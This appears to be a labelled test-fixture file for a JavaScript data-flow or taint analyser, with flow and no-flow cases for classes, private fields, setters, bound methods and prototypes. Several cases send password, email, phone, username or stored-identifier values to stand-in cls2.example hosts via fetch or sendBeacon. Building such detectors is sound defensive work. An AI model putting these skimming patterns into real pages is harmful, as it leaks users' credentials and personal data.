//# instance-field
// flow: email > inst.cls2.example via fetch
class Lead {
  constructor(mail) { this.mail = mail; }
  send() { return fetch('https://inst.cls2.example/', { method: 'POST', body: this.mail }); }
}
new Lead(document.querySelector('input[type=email]').value).send();

//# method-not-called
// no flow
// why: the object is made inside a function scope and send() is never called
(function () {
  class Lead {
    constructor(mail) { this.mail = mail; }
    send() { return fetch('https://inst0.cls2.example/', { method: 'POST', body: this.mail }); }
  }
  const lead = new Lead(document.querySelector('input[type=email]').value);
  console.log(lead.mail.length);
})();

//# overridden-method
// no flow
// why: the subclass sends nothing of the value and is the only one made
class Base { report(v) { fetch('https://base0.cls2.example/', { method: 'POST', body: v }); } }
class Quiet extends Base { report(v) { fetch('https://quiet0.cls2.example/'); } }
new Quiet().report(document.querySelector('input[type=tel]').value);

//# super-call
// flow: phone > sup.cls2.example via fetch
class Sender { report(v) { fetch('https://sup.cls2.example/', { method: 'POST', body: v }); } }
class Loud extends Sender { report(v) { console.log('sending'); super.report(v); } }
new Loud().report(document.querySelector('input[type=tel]').value);

//# static-method
// flow: identifier > stat.cls2.example via beacon
class Track { static hit(id) { navigator.sendBeacon('https://stat.cls2.example/', id); } }
Track.hit(localStorage.getItem('uid'));

//# two-instances
// no flow
// why: the instance that is sent holds the fixed value
class Cell { constructor(v) { this.v = v; } }
const secret = new Cell(localStorage.getItem('uid'));
const plain = new Cell('none');
console.log(secret.v.length);
navigator.sendBeacon('https://cell0.cls2.example/', plain.v);

//# bound-method
// flow: password > bind.cls2.example via fetch
// guard: event change
function Watch(url) { this.url = url; this.on = this.on.bind(this); }
Watch.prototype.on = function (e) { fetch(this.url, { method: 'POST', body: e.target.value }); };
const w = new Watch('https://bind.cls2.example/');
document.querySelector('input[type=password]').addEventListener('change', w.on);

//# call-with-other-this
// no flow
// why: this is the second object, whose value is fixed
const holder = { v: document.querySelector('input[type=password]').value, push() { fetch('https://call0.cls2.example/?v=' + this.v); } };
holder.push.call({ v: 'fixed' });

//# private-field
// flow: username > priv.cls2.example via fetch
class User {
  #name;
  constructor(n) { this.#name = n; }
  post() { fetch('https://priv.cls2.example/', { method: 'POST', body: this.#name }); }
}
new User(document.querySelector('input[autocomplete=username]').value).post();

//# private-field-serialised
// no flow
// why: JSON.stringify does not see a private field
class Hidden {
  #name;
  version = 3;
  constructor(n) { this.#name = n; }
}
fetch('https://priv0.cls2.example/', {
  method: 'POST',
  body: JSON.stringify(new Hidden(document.querySelector('input[autocomplete=username]').value)),
});

//# to-json
// no flow
// why: toJSON hands out the version only
class Doc {
  constructor(m) { this.m = m; }
  toJSON() { return { version: 1 }; }
}
fetch('https://json0.cls2.example/', {
  method: 'POST',
  body: JSON.stringify(new Doc(document.querySelector('textarea[name=message]').value)),
});

//# setter-sends
// flow: message > set.cls2.example via fetch
class Model { set text(v) { fetch('https://set.cls2.example/', { method: 'POST', body: v }); } }
const model = new Model();
model.text = document.querySelector('textarea[name=message]').value;

//# chained-builder
// flow: search > chain.cls2.example via fetch
class Query {
  constructor() { this.p = new URLSearchParams(); }
  with(k, v) { this.p.set(k, v); return this; }
  go() { return fetch('https://chain.cls2.example/?' + this.p); }
}
new Query().with('v', '1').with('q', document.querySelector('input[type=search]').value).go();

//# static-and-instance
// no flow
// why: the static property is another one than that of the instance
class Ctx {
  static token = 'none';
  constructor() { this.token = localStorage.getItem('token'); }
}
new Ctx();
fetch('https://si0.cls2.example/?t=' + Ctx.token);

//# own-property-over-prototype
// no flow
// why: the own property hides the tainted one of the prototype
const proto = { id: localStorage.getItem('uid') };
const own = Object.create(proto);
own.id = 'none';
fetch('https://op0.cls2.example/?id=' + own.id);
